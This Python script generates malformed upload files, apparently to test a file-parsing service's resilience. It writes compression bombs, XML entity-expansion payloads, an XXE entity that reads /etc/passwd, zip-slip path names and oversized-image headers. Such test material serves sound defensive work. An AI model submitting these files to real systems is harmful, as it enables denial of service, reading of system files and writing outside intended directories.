"""Files that are small until somebody opens them.  Usage: bombs.py DIR   writes them there and prints their names.

Each is what its name says; together they are a few MiB, unpacked some 20 GiB.
"""
import gzip
import io
import pathlib
import struct
import sys
import zipfile
import zlib

GIB = 1 << 30
TYPES = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" '
         'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
         '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>')
RELS = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{0}" Target="{1}"/></Relationships>')
BOOK = ('<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxml'
        'formats.org/officeDocument/2006/relationships"><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>')
SHEET = '<?xml version="1.0"?>{0}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{1}</sheetData></worksheet>'
LAUGHS = "<!DOCTYPE w [<!ENTITY a0 \"ha\">" + "".join(f"<!ENTITY a{i} \"{f'&a{i - 1};' * 10}\">" for i in range(1, 10)) + "]>"


def book(path, sheet, extra=()):
    """A workbook whose only sheet is made of ${sheet}: text, or (head, piece, times, tail)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", TYPES)
        z.writestr("_rels/.rels", RELS.format("officeDocument", "xl/workbook.xml"))
        z.writestr("xl/workbook.xml", BOOK)
        z.writestr("xl/_rels/workbook.xml.rels", RELS.format("worksheet", "worksheets/sheet1.xml"))
        head, piece, times, tail = sheet if isinstance(sheet, tuple) else (sheet, "", 0, "")
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as f:
            f.write(head.encode())
            for _ in range(times):
                f.write(piece.encode())
            f.write(tail.encode())
        for name in extra:
            z.writestr(name, "")


def overlap(path):
    """A directory of 4,000 entries that all stand for the same bytes, which unpack to 64 MiB each."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    plain = bytes(1 << 26)
    data = packer.compress(plain) + packer.flush()
    name, crc = b"xl/worksheets/sheet1.xml", zlib.crc32(plain)
    out = io.BytesIO()
    out.write(struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, 0, 8, 0, 33, crc, len(data), len(plain), len(name), 0) + name + data)
    at, n = out.tell(), 4000
    for i in range(n):
        entry = name if i == 0 else b"xl/worksheets/s%05d.xml" % i
        out.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 20, 20, 0, 8, 0, 33, crc, len(data), len(plain), len(entry), 0, 0, 0, 0, 0, 0) + entry)
    out.write(struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, n, n, out.tell() - at, at, 0))
    path.write_bytes(out.getvalue())


def png(width, height, data):
    def chunk(kind, body):
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 16, 6, 0, 0, 0)) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def zeros(n):
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(bytes(1 << 20)) for _ in range(n >> 20)) + packer.flush()


def pdf(data):
    return b"%PDF-1.7\n1 0 obj<</Length " + str(len(data)).encode() + b"/Filter/FlateDecode>>stream\n" + data + b"\nendstream endobj\n%%EOF\n"


def main(to):
    mib = " " * (1 << 20)
    book(to / "spaces-4-gib.xlsx", (SHEET.split("{1}")[0].format(""), mib, 4096, "</sheetData></worksheet>"))
    book(to / "rows-100-million.xlsx", (SHEET.split("{1}")[0].format(""), "<row><c><v>1</v></c></row>" * 10000, 3000, "</sheetData></worksheet>"))
    book(to / "one-cell-1-gib.xlsx", (SHEET.split("{1}")[0].format("") + '<row><c t="str"><v>', "a" * (1 << 20), 1024, "</v></c></row></sheetData></worksheet>"))
    book(to / "deep.xlsx", (SHEET.split("{1}")[0].format(""), "<c>" * 10000, 1000, ""))
    book(to / "billion-laughs.xlsx", SHEET.format(LAUGHS, '<row><c t="str"><v>&a9;</v></c></row>'))
    book(to / "quadratic.xlsx", SHEET.format('<!DOCTYPE w [<!ENTITY a "' + "a" * 100000 + '">]>', "&a;" * 10000))
    book(to / "outside.xlsx", SHEET.format('<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]>', '<row><c t="str"><v>&a;</v></c></row>'))
    book(to / "entries-65000.xlsx", SHEET.format("", ""), (f"x/{i}" for i in range(65000)))
    book(to / "names-outside.xlsx", SHEET.format("", ""), ("../../../../tmp/azukari-was-here", "/etc/azukari-was-here"))
    overlap(to / "overlapping.xlsx")
    inner = gzip.compress(bytes(1 << 26), 9)
    for _ in range(6):
        outer = io.BytesIO()
        with zipfile.ZipFile(outer, "w", zipfile.ZIP_DEFLATED) as z:
            for i in range(16):
                z.writestr(f"{i}.zip", inner)
        inner = outer.getvalue()
    (to / "zip-in-zip.xlsx").write_bytes(inner)
    (to / "gzip-1-gib.csv").write_bytes(gzip.compress(bytes(GIB), 9))
    (to / "one-cell-64-mib.csv").write_bytes(b"a" * (1 << 26))
    (to / "one-quote-64-mib.csv").write_bytes(b'"' + b"a\r\n" * (1 << 24))
    (to / "columns-10-million.csv").write_bytes(b"," * 10_000_000 + b"\r\n")
    (to / "nul-8-mib.csv").write_bytes(bytes(1 << 23))
    (to / "pixels-2-31.png").write_bytes(png(0x7fffffff, 0x7fffffff, zeros(1 << 20)))
    (to / "pixels-65535.png").write_bytes(png(65535, 65535, zeros(GIB)))
    (to / "pixels-65535.jpg").write_bytes(b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0\xff\xc0\0\x11\x08\xff\xff\xff\xff\3\1\x22\0\2\x11\1\3\x11\1" + bytes(1000) + b"\xff\xd9")
    (to / "stream-1-gib.pdf").write_bytes(pdf(zeros(GIB)))
    (to / "laughs.svg").write_text('<?xml version="1.0"?>' + LAUGHS.replace("DOCTYPE w", "DOCTYPE svg") + "<svg>&a9;</svg>")
    for file in sorted(to.iterdir()):
        print(file.name)


if __name__ == "__main__":
    main(pathlib.Path(sys.argv[1]))
